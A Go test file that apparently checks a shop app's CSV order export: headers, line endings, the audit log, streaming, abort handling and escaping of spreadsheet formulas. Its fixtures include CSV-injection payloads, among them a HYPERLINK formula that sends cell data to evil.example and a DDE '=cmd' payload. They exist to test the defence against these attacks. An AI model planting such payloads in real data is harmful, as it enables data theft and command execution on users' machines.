package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"idgate/app/gate"
	"idgate/app/ledger"
)

const withBOM = "\ufeff"

// exported reads a list back as a spreadsheet would, without its header.
func (b *bench) exported(w *httptest.ResponseRecorder) [][]string {
	b.Helper()
	b.want(200, w)
	text, ok := strings.CutPrefix(w.Body.String(), withBOM)
	if !ok {
		b.Fatal("the file does not begin with a byte order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	b.ok(err)
	return rows[1:]
}

// TestExport: a line says what the page says; the file is named for what is in it and made for a spreadsheet; who took it away is recorded.
func TestExport(t *testing.T) {
	b := newBench(t)
	b.enforce(shopHash, func(p *gate.Policy) { p.CancelAfter = 7 })
	held, holding := b.hold(shopHash), b.buy(shopHash)
	b.look(shopHash, held)
	b.buy(otherHash)
	w := b.as(ledger.Reviewer, shopBase+"/orders.csv?filter=held", nil)
	h := w.Header()
	if h.Get("Content-Type") != "text/csv; charset=utf-8; header=present" || h.Get("Content-Disposition") != `attachment; filename=orders-held-abc123-2026-03-10.csv` ||
		h.Get("Cache-Control") != "no-store" || h.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("headers %v", h)
	}
	if !bytes.Contains(w.Body.Bytes(), []byte("\r\n")) || bytes.Contains(bytes.ReplaceAll(w.Body.Bytes(), []byte("\r\n"), nil), []byte("\n")) {
		t.Error("lines do not end as RFC 4180 says")
	}
	header, _, _ := strings.Cut(strings.TrimPrefix(w.Body.String(), withBOM), "\r\n")
	if header != "Order,Placed (America/Denver),Customer,E-mail,Guest,Value,Currency,Status,Status number,Source,Digital,Decision,Reasons,Hold,Held since (America/Denver),Cancelled on (America/Denver)" {
		t.Errorf("header %s", header)
	}
	c := b.world.Shop(shopHash).Customers()[0]
	o := b.order(shopHash, held)
	want := []string{strconv.FormatInt(held, 10), "2026-03-10 09:12:01", c.FirstName + " " + c.LastName, c.Email, "", plainMoney(o.Value), o.Value.Currency, "Manual Verification Required", "12",
		"external", "", "Hold", "No proof", "Held", "2026-03-10 09:12:01", "2026-03-17 09:12:01"}
	rows := b.exported(w)
	if len(rows) != 2 || rows[0][0] != strconv.FormatInt(holding, 10) || rows[0][13] != "Held" && rows[0][13] != "Being held" {
		t.Fatalf("rows %q", rows)
	}
	if !slices.Equal(rows[1], want) {
		t.Errorf("got  %q\nwant %q", rows[1], want)
	}
	if rows := b.exported(b.as(ledger.Owner, shopBase+"/orders.csv", nil)); len(rows) != 2 {
		t.Errorf("all: %q", rows)
	}
	if rows := b.exported(b.as(ledger.Owner, shopBase+"/orders.csv?filter=leaks", nil)); len(rows) != 0 {
		t.Errorf("leaks: %q", rows)
	}
	acts, err := b.s.Ledger.ActivityPage(b.Context(), shopHash, 0, 3)
	b.ok(err)
	if a := acts[2]; a.Action != ledger.ActExported || a.Actor != "reviewer@abc123.example" || a.Subject != "orders" || a.Detail != "filter held" {
		t.Errorf("activity %+v", a)
	}
	b.want(200, b.as(ledger.Reviewer, shopBase+"/orders?filter=held", nil), `href="/s/abc123/orders.csv?filter=held"`)
	b.lacks(b.as(ledger.Viewer, shopBase+"/orders?filter=held", nil), "orders.csv")
}

// hostile are names that buyers may give themselves.
var hostile = []string{`=HYPERLINK("http://evil.example?"&A1,"Refund")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", `"quoted", with a comma`, "two\nlines",
	"Ünï 💡", "'already", "plain"}

// seed fills the first Shop with orders that were settled in a way, newest last.
func (b *bench) seed(count int, hold ledger.HoldState, change ...func(*ledger.Order)) {
	b.Helper()
	l, shop, now := b.s.Ledger, b.shop(shopHash), b.clock()
	found := make([]ledger.Swept, count)
	for i := range found {
		found[i] = ledger.Swept{OrderID: int64(i + 1), StatusID: 12, ModifiedAt: now}
	}
	_, err := l.DueSwept(b.Context(), shopHash, found, now)
	b.ok(err)
	leases, err := l.LeaseOrders(b.Context(), shopHash, false, now, now.Add(time.Hour), count)
	b.ok(err)
	var wg sync.WaitGroup
	errs, work := make([]error, len(leases)), make(chan int)
	for range 200 { // the writer takes as many at a time
		wg.Go(func() {
			for i := range work {
				id := leases[i].OrderID
				o := ledger.Order{ID: id, StatusID: 12, Hold: hold, FormerStatus: 11, HoldStatus: 12, HeldAt: now, PlacedAt: now, ModifiedAt: now,
					Buyer: ledger.Buyer{Name: hostile[id%int64(len(hostile))], Mailbox: "=cmd|' /C calc'!A0"}, Value: gate.Money{Minor: id, Currency: "USD"}, Source: "-www"}
				for _, c := range change {
					c(&o)
				}
				n := ledger.Settlement{Order: o}
				if id%20 == 0 { // signing each would take most of the time
					n.Decision = &ledger.NewDecision{Facts: gate.Facts{Stage: gate.AtOrder, OrderID: id}, Policy: 1, MadeBy: ledger.ByRule,
						Decision: gate.Decision{Outcome: gate.Hold, Mode: gate.Enforce, Reasons: []gate.Reason{{Code: gate.NoProof}}}}
				}
				errs[i] = l.SettleOrder(context.Background(), shop, leases[i], n, now)
			}
		})
	}
	for i := range leases {
		work <- i
	}
	close(work)
	wg.Wait()
	b.ok(errors.Join(errs...))
}

// counted is a reader of an export who keeps nothing but the size of what comes at once, and may go away.
type counted struct {
	*httptest.ResponseRecorder
	whole            bytes.Buffer
	pending, most    int
	flushes, leaveAt int
	deadlines        int
}

func (c *counted) Write(p []byte) (int, error) {
	c.pending += len(p)
	c.most = max(c.most, c.pending)
	return c.whole.Write(p)
}

func (c *counted) FlushError() error {
	c.flushes++
	c.pending = 0
	if c.flushes == c.leaveAt {
		return errors.New("the reader is gone")
	}
	return nil
}

func (c *counted) SetWriteDeadline(time.Time) error { c.deadlines++; return nil }

// TestExportIsBounded: a list of 10,000 orders with hostile names is whole and harmless, comes in pieces of one page each, and breaks off
// for good when its reader goes away.
func TestExportIsBounded(t *testing.T) {
	const orders = 10_000
	b := newBench(t)
	b.seed(orders, ledger.Held)
	export := func(filter string, leaveAt int) (c *counted, aborted bool) {
		t.Helper()
		c = &counted{ResponseRecorder: httptest.NewRecorder(), leaveAt: leaveAt}
		r := httptest.NewRequest("GET", shopBase+"/orders.csv?filter="+filter, nil)
		r.Header.Set("Cookie", b.cookies[shopHash+" reviewer"])
		defer func() {
			if e := recover(); e != nil {
				if err, ok := e.(error); !ok || !errors.Is(err, http.ErrAbortHandler) {
					panic(e)
				}
				aborted = true
			}
		}()
		b.h.ServeHTTP(c, r)
		return c, false
	}
	for _, filter := range []string{"all", "held"} {
		c, aborted := export(filter, 0)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(c.whole.String(), withBOM))).ReadAll()
		b.ok(err)
		if len(rows) != orders+1 || aborted {
			t.Fatalf("%s: %d rows, want %d; aborted %v", filter, len(rows), orders+1, aborted)
		}
		for i, row := range rows[1:] {
			if id := orders - i; row[0] != strconv.Itoa(id) {
				t.Fatalf("%s: row %d is order %s, want %d", filter, i, row[0], id)
			}
			for j, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) {
					t.Fatalf("order %s: %s begins like a formula: %q", row[0], rows[0][j], cell)
				}
			}
		}
		if row := rows[1]; row[2] != harmlessName(orders) || row[3] != "'=cmd|' /C calc'!A0" || row[9] != "'-www" || row[5] != "100.00" {
			t.Errorf("order %s reads %q", row[0], row)
		}
		if pages := orders / exportLength; c.flushes != pages || c.deadlines != pages || c.most > c.whole.Len()/pages*2 {
			t.Errorf("%s: %d pieces, %d deadlines, the largest of %d bytes of %d in all", filter, c.flushes, c.deadlines, c.most, c.whole.Len())
		}
	}
	if c, aborted := export("all", 3); !aborted || c.flushes != 3 {
		t.Errorf("whose reader is gone: aborted %v after %d pieces", aborted, c.flushes)
	}
}

func harmlessName(id int) string {
	name := hostile[id%len(hostile)]
	if strings.ContainsRune("=+-@\t\r\n＝", []rune(name)[0]) {
		return "'" + name
	}
	return name
}

// TestExportAborts: over a real connection a list that breaks off is an error for whoever reads it, never a shorter list.
func TestExportAborts(t *testing.T) {
	b := newBench(t)
	b.seed(2*exportLength, ledger.Held)
	ctx, cancel := context.WithCancel(t.Context())
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.Header.Set("Cookie", b.cookies[shopHash+" reviewer"])
		b.h.ServeHTTP(leaving{w, cancel}, r.WithContext(ctx))
	}))
	defer server.Close()
	res, err := http.Get(server.URL + shopBase + "/orders.csv")
	b.ok(err)
	defer func() { _ = res.Body.Close() }()
	var got bytes.Buffer
	if _, err := got.ReadFrom(res.Body); err == nil || res.StatusCode != 200 || got.Len() == 0 {
		t.Errorf("status %d, %d bytes, error %v; want a list that breaks off", res.StatusCode, got.Len(), err)
	}
}

// leaving cancels the request's context once the first piece is out.
type leaving struct {
	http.ResponseWriter
	cancel func()
}

func (l leaving) FlushError() error {
	l.cancel()
	return http.NewResponseController(l.ResponseWriter).Flush()
}

func TestHarmless(t *testing.T) {
	for text, want := range map[string]string{"": "", "a=b": "a=b", "'=1": "'=1", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\ta": "'\ta", "\ra": "'\ra", "\na": "'\na",
		"＝1": "'＝1", "＋": "'＋", "－": "'－", "＠": "'＠", "\xff=": "\xff=",
		"x;=1;": "x;'=1;", "x; \"=1": "x; \"'=1", "x\t+1": "x\t'+1", "x|@a": "x|'@a", "a\r\n-1": "a\r\n'-1", "\xff;＝1": "\xff;'＝1", "a;b=c": "a;b=c", " =1": " '=1", "=;=": "'=;'=",
		"St. John-Smythe; 5": "St. John-Smythe; 5"} {
		if got := harmless(text); got != want {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
	}
}

func FuzzExportCell(f *testing.F) {
	for _, name := range hostile {
		f.Add(name)
	}
	f.Fuzz(func(t *testing.T, text string) {
		var out bytes.Buffer
		w := csv.NewWriter(&out)
		w.UseCRLF = true
		if err := w.Write([]string{harmless(text), "next"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		row, err := csv.NewReader(&out).Read()
		if err != nil || len(row) != 2 || row[1] != "next" {
			t.Fatalf("%q reads back as %q, %v", text, row, err)
		}
		// However a spreadsheet cuts the line, no piece of it begins a formula.
		for _, piece := range strings.FieldsFunc(row[0], func(r rune) bool { return strings.ContainsRune(";|\t\r\n", r) }) {
			if piece = strings.TrimLeft(piece, ` "`); piece != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(piece)[0]) {
				t.Errorf("%q reads back as %q", text, row[0])
			}
		}
		if same := strings.ReplaceAll(harmless(text), "\r\n", "\n"); strings.ReplaceAll(row[0], "\r\n", "\n") != same && !strings.Contains(text, "\r") {
			t.Errorf("%q reads back as %q", text, row[0])
		}
	})
}
